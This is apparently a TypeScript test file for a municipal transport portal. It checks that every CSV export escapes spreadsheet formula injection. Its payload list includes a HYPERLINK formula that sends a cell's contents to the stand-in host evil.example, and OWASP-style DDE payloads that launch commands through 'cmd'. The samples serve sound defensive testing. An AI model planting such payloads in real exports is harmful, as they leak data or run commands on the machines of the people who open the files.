// Issue #35, finding 7: CSV formula injection. A driver named `=HYPERLINK("http://evil.example/?d="&B9,…)`
// reached the analyst's CSV download of an operator's filed report as a live formula. Every CSV the
// portal writes goes through app/domain/csv.ts, which writes a cell starting with =, +, -, @, a tab
// or a CR as text (a single quote in front, the cell quoted). The test reads the downloads back
// with a CSV parser and checks that no cell a spreadsheet would evaluate is left.
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import { describe, expect, it } from "vitest";
import { csvCell, csvDocument, csvLine } from "~/domain/csv";
import { toCsv } from "~/http/report-tables.server";
import { startSession } from "~/http/session.server";
import { fileReport } from "~/models/operator-report.server";
import { reportCsv, type ReportSnapshot } from "~/models/operator-report-content.server";
import { operatorSchedule } from "~/models/operator-report-schedule.server";
import { loader as staffReportCsv } from "~/routes/m.$municipio.operadoras.$id.relatorios.$reportId.csv";
import { loader as gestorReportCsv } from "~/routes/m.$municipio.relatorios.$relatorio[.]csv";
import { loader as operatorReportCsv } from "~/routes/operadora.$id.relatorios.$reportId.csv";
import { db } from "~/utils/db.server";
import { credentialed, linkedDriver, town } from "../e2e/fixtures/operator-support";
import { createSignedCredential, createUser } from "../support/factories";

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B9,"Clique aqui")';
/** Every start a spreadsheet may read as a formula, or that OWASP lists. */
const HOSTILE = [
  HYPERLINK,
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "=1+1;=2+2",
];

/** RFC 4180 with semicolons: quoted cells may hold ;, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const body = text.replace(/^\uFEFF/, "");
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"' && cell === "") quoted = true;
    else if (c === ";") endCell();
    else if (c === "\r" && body[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell !== "" || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** A cell a spreadsheet would evaluate (or trim into one): what must never be written. */
const live = (cell: string) => /^[\s]*[=+\-@]/.test(cell) || /^[\t\r\n]/.test(cell);

function liveCells(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((c) => live(c) && !/^-?\d+(?:[.,]\d+)*$/.test(c));
}

async function requestAs(userId: string, path: string) {
  const cookie = (await startSession(new Request("http://localhost/"), userId)).split(";")[0];
  return new Request(`http://localhost${path}`, { headers: { cookie } });
}

describe("CSV formula injection (issue #35, finding 7)", () => {
  it("writes every hostile start as text: a quote in front, the cell quoted, nothing else changed", () => {
    for (const value of HOSTILE) {
      const cell = csvCell(value);
      expect(cell, JSON.stringify(value)).toBe(`"'${value.replace(/"/g, '""')}"`);
      expect(parseCsv(`${cell}\r\n`)).toEqual([[`'${value}`]]);
    }
    // A comma is quoted too (a spreadsheet set to commas would otherwise start a cell at "=1+1").
    expect(csvCell("Nome, =1+1")).toBe('"Nome, =1+1"');
    // Numbers and ordinary text stay as they were; separators and quotes are quoted.
    expect(csvLine(["Silva; Souza", 'Disse "oi"', -3, "-12,5", "1.234,50", "", null])).toBe(
      '"Silva; Souza";"Disse ""oi""";-3;"-12,5";"1.234,50";;',
    );
  });

  it("both writers (the gestor's tables and the operators' filed reports) neutralise every cell", () => {
    const table = toCsv({
      name: "vencimentos",
      title: "t",
      description: "",
      columns: ["Titular", ...HOSTILE.slice(0, 2)],
      numeric: [false, false, false],
      chart: null,
      rows: HOSTILE.map((h, i) => [h, i, `x${h}`]),
    });
    expect(liveCells(table)).toEqual([]);
    expect(
      parseCsv(table)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(HOSTILE.map((h) => `'${h}`));

    const snapshot: ReportSnapshot = {
      title: HOSTILE[1],
      citation: HOSTILE[2],
      operator: { legalName: HOSTILE[3], cnpj: "11222333000181" },
      periodStart: "2026-01-01",
      periodEnd: "2026-01-31",
      generatedAt: "2026-02-01T12:00:00.000Z",
      tables: [{ title: HOSTILE[4], columns: HOSTILE.slice(0, 3), rows: HOSTILE.map((h) => [h, h, "ok"]) }],
    } as unknown as ReportSnapshot;
    const filed = reportCsv(snapshot);
    expect(liveCells(filed)).toEqual([]);
    expect(
      parseCsv(filed)
        .filter((r) => r[2] === "ok")
        .map((r) => r[0]),
    ).toEqual(HOSTILE.map((h) => `'${h}`));
  });

  it("a driver named =HYPERLINK(…) reaches the analyst's and the company's download of the filed report as text", async () => {
    const m = await town("lavras-mg");
    const { operator, actor, owner } = await credentialed(m.id, {
      category: "APLICATIVO",
      kind: "PLATAFORMA",
      facts: { headOfficeHere: true },
    });
    await linkedDriver(operator, actor, HYPERLINK);
    const { schedule } = await operatorSchedule(operator);
    const monthly = schedule.find((s) => s.duty === "relatorio_mensal")!;
    const report = await fileReport(operator, { duty: "relatorio_mensal", periodStart: monthly.periodStart }, actor);

    const analyst = await createUser();
    await db.roleAssignment.create({ data: { userId: analyst.id, role: "ANALISTA", municipalityId: m.id } });
    const downloads = [
      await staffReportCsv({
        request: await requestAs(analyst.id, `/m/${m.slug}/operadoras/${operator.id}/relatorios/${report.id}.csv`),
        params: { municipio: m.slug, id: operator.id, reportId: report.id },
        context: {} as never,
      }),
      await operatorReportCsv({
        request: await requestAs(owner.id, `/operadora/${operator.id}/relatorios/${report.id}.csv`),
        params: { id: operator.id, reportId: report.id },
        context: {} as never,
      }),
    ] as Response[];
    for (const response of downloads) {
      expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
      const csv = await response.text();
      const cells = parseCsv(csv).flat();
      expect(cells).toContain(`'${HYPERLINK}`);
      expect(liveCells(csv)).toEqual([]);
    }
  });

  it("a credential holder with a hostile name reaches the gestor's expiry report as text", async () => {
    const m = await town("patrocinio-mg");
    const { credential } = await createSignedCredential(m, { validFrom: "2026-01-01", validUntil: "2099-01-01" });
    const soon = new Date(Date.now() + 10 * 86_400_000).toISOString().slice(0, 10);
    await db.credential.update({
      where: { id: credential.id },
      data: { holderDisplayName: "\t=HYPERLINK(1)", plate: "@SUM(1)", validUntil: soon },
    });
    const gestor = await createUser();
    await db.roleAssignment.create({ data: { userId: gestor.id, role: "GESTOR", municipalityId: m.id } });
    const response = (await gestorReportCsv({
      request: await requestAs(gestor.id, `/m/${m.slug}/relatorios/vencimentos.csv`),
      params: { municipio: m.slug, relatorio: "vencimentos" },
      context: {} as never,
    })) as Response;
    const csv = await response.text();
    expect(parseCsv(csv).flat()).toEqual(expect.arrayContaining(["'\t=HYPERLINK(1)", "'@SUM(1)"]));
    expect(liveCells(csv)).toEqual([]);
  });

  it("every CSV the portal writes is written by app/domain/csv.ts: no other file quotes cells itself", () => {
    const root = join(__dirname, "../../app");
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (/\.tsx?$/.test(name)) files.push(path);
      }
    };
    walk(root);
    const rel = (f: string) => relative(root, f);
    // A file that answers text/csv takes its body from one of the two writers built on csvDocument.
    const answering = files.filter((f) => readFileSync(f, "utf8").includes("text/csv"));
    expect(answering.length).toBeGreaterThan(0);
    for (const f of answering) expect(readFileSync(f, "utf8"), rel(f)).toMatch(/\b(toCsv|reportCsv|csvDocument)\(/);
    for (const f of files.filter((f) => /(function|const) (toCsv|reportCsv)\b/.test(readFileSync(f, "utf8"))))
      expect(readFileSync(f, "utf8"), rel(f)).toMatch(/csvDocument\(/);
    // Doubling quotes is what writing a CSV cell takes: only the CSV module does it.
    const quoting = files.filter((f) => readFileSync(f, "utf8").includes(`'""'`)).map(rel);
    expect(quoting).toEqual(["domain/csv.ts"]);
    expect(csvDocument([["a"], [], ["b"]])).toBe("\uFEFFa\r\n\r\nb\r\n");
  });
});
